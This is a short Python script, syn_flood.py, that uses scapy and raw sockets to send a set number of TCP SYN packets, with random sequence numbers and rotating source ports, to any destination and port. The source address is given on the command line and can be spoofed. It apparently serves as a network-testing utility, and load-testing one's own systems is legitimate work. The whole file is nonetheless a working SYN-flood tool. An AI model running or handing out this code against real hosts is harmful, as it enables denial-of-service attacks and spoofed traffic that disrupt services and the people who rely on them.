# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends a bounded number of SYNs with random ISNs, each from a port of its own.

    syn_flood.py SOURCE DESTINATION PORT COUNT [MICROSECONDS-BETWEEN-TWO]
"""
import random
import socket
import sys
import time

from scapy.all import IP, TCP


def main():
    source, destination, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    pause = int(sys.argv[5]) / 1e6 if len(sys.argv) > 5 else 0
    packet = IP(src=source, dst=destination) / TCP(sport=1, dport=port, flags="S", seq=1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            packet[TCP].sport, packet[TCP].seq = 1024 + number % 60000, random.getrandbits(32)
            del packet[TCP].chksum
            raw.sendto(bytes(packet), (destination, 0))
            time.sleep(pause)


if __name__ == "__main__":
    main()
